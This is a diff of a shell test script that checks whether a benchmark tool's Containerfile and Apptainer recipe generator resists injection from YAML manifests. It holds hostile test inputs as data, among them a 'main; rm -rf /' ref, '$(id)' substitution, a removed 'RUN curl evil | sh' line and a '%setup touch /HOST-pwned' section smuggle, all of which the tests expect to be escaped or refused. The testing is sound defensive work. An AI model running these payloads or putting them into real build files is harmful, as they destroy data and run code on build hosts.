@@ -30,7 +30,7 @@ target: {vendor: cuda}
 stack:
   base: "nvcr.io/nvidia/cuda:13.0.0-devel-ubuntu24.04"
   components:
-    - {name: lib, git: "https://example.invalid/x", ref: "main; rm -rf /", build: "make && echo 'done' \"$(id)\"\nRUN curl evil | sh"}
+    - {name: lib, git: "https://example.invalid/x", ref: "main; rm -rf /", build: ["make && echo 'done' \"$(id)\"", "%setup touch /HOST-pwned"]}
   env:
     EVIL: "a\"b $HOME \\ `id` ' end"
 runtime: {engine: podman}
@@ -43,17 +43,45 @@ if python3 - "$T/evil.Containerfile" <<'PY'
 import json, sys
 lines = open(sys.argv[1]).read().split("\n")
 runs = [json.loads(l[4:]) for l in lines if l.startswith("RUN ")]
-build = "make && echo 'done' \"$(id)\"\nRUN curl evil | sh"
-assert ["sh", "-c", build] in runs, runs           # one argument, intact, newline included
-assert not any(l.startswith("RUN curl") for l in lines)
+build = "make && echo 'done' \"$(id)\""
+assert ["sh", "-c", build] in runs, runs           # one argument, intact
+assert ["sh", "-c", "%setup touch /HOST-pwned"] in runs, runs  # a list: one RUN per command, in order
+assert runs.index(["sh", "-c", build]) + 1 == runs.index(["sh", "-c", "%setup touch /HOST-pwned"])
 env = [l for l in lines if l.startswith("ENV EVIL=")]
 assert env == ['ENV EVIL="a\\"b \\$HOME \\\\ `id` \' end"'], env
 assert not any("main; rm -rf /" in l for l in lines)  # the ref never reaches the recipe; the commit does
 PY
-then ok "Containerfile: the build command is one exec-form argument, ENV escaped, the ref absent"; else not_ok "injection (Containerfile)"; show "$T/evil.Containerfile"; fi
+then ok "Containerfile: each build command is one exec-form argument, ENV escaped, the ref absent"; else not_ok "injection (Containerfile)"; show "$T/evil.Containerfile"; fi
 expect 0 "apptainer recipe of the same" "$BENCH" recipe --format apptainer --lock "$T/evil.lock.json" "$T/evil.yaml"
+cp "$T/out" "$T/evil.def"
 sed -n '/^%post/,$p' "$T/out" | tail -n +2 >"$T/post.sh"
-if sh -n "$T/post.sh" && grep -q "'sh' '-c' 'make && echo '\\\\''done'\\\\'' \"\$(id)\"" "$T/post.sh"; then
-	ok "apptainer: %post is valid shell, the build command one single-quoted argument"
-else not_ok "injection (apptainer)"; show "$T/post.sh"; fi
+if sh -n "$T/post.sh" && grep -q "'sh' '-c' 'make && echo '\\\\''done'\\\\'' \"\$(id)\"" "$T/post.sh" &&
+	[ "$(grep -c "^%" "$T/evil.def")" = 4 ] && grep -q "^    'sh' '-c' '%setup touch /HOST-pwned'$" "$T/evil.def"; then
+	ok "apptainer: %post is valid shell, each build command one single-quoted argument, no section of the manifest's"
+else not_ok "injection (apptainer)"; show "$T/evil.def"; fi
+
+# a line break in a build command would start an apptainer section run on the build host (%setup): refused by the
+# validator with its place, and by bench recipe before any recipe is written
+cat >"$T/pwn.yaml" <<'Y'
+bench: 1
+name: pwn
+target: {vendor: cuda}
+stack:
+  base: "nvcr.io/nvidia/cuda:13.0.0-devel-ubuntu24.04"
+  components:
+    - {name: lib, git: "https://example.invalid/x", ref: main, build: "make\n%setup\ntouch /HOST-pwned"}
+runtime: {engine: apptainer}
+suites: {membw: {}}
+Y
+expect 3 "validate refuses a build command with a newline" "$BENCH" validate "$T/pwn.yaml"
+expect_err "pwn.yaml:7:71: error: 'build' holds a control character (\x0a)"
+python3 tests/recipe/mklock.py "$T/pwn.yaml" "$T/pwn.lock.json"
+expect 3 "recipe refuses it too" "$BENCH" recipe --format apptainer --lock "$T/pwn.lock.json" "$T/pwn.yaml"
+expect_no_out
+sed 's/build: "make\\n%setup\\ntouch \/HOST-pwned"/build: ["make", "make\\tinstall"]/' "$T/pwn.yaml" >"$T/tab.yaml"
+expect 3 "a tab in one command of a build list" "$BENCH" validate "$T/tab.yaml"
+expect_err "tab.yaml:7:80: error: 'build' holds a control character (\x09)"
+sed -i 's/^stack:/stack:\n  env:\n    EVIL: "a\\rb"/' "$T/pwn.yaml"
+expect 3 "an env value with a carriage return" "$BENCH" validate "$T/pwn.yaml"
+expect_err "pwn.yaml:6:11: error: 'EVIL' holds a control character (\x0d)"
 finish
